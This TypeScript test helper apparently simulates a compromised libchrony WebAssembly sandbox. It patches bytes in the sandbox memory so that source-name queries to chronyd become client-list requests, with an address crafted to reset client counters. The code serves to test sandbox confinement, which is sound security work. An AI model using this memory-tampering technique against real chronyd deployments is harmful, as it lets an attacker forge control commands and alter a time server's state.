/** Takes the sandbox over, as an attacker could who can write to its memory: a question becomes a command. */
import type { Libchrony } from '../../src/sandbox/instance.ts';

/** The queries of source names, and of clients, in the memory: the code, then "by address" and one kind of reply. */
const SOURCENAME_QUERY = [65, 0, 2, 1];
const CLIENTS_CODE = 68;
/** The lengths of an address, of a source and of a text, in the table of lengths. */
const LENGTHS = [20, 0, 20, 0, 0, 1];
/** The text becomes so long that the request for it is as long as one for clients. */
const LONG_TEXT = [492 & 0xff, 492 >> 8];

/**
 * The address to ask about then: its 16 bytes are, for chronyd, the first index 0, eight clients, no minimum of hits, and 1 in
 * the word that resets the counters of these clients.
 */
export const RESETTING = '0:0:0:8:0:0:0:1';

/** Makes every request for a source's name one for clients. */
export function takeOver({ c }: Libchrony): void {
  const memory = new Uint8Array(c.memory.buffer);
  memory[placeOf(memory, SOURCENAME_QUERY)] = CLIENTS_CODE;
  memory.set(LONG_TEXT, placeOf(memory, LENGTHS) + 4);
}

/** Where these bytes are in the memory, the only time. */
function placeOf(memory: Uint8Array, bytes: readonly number[]): number {
  const places = [...memory.keys()].filter((at) => bytes.every((byte, i) => memory[at + i] === byte));
  const [place] = places;
  if (place === undefined || places.length > 1)
    throw new Error(`${bytes} is ${places.length} times in the memory`);
  return place;
}
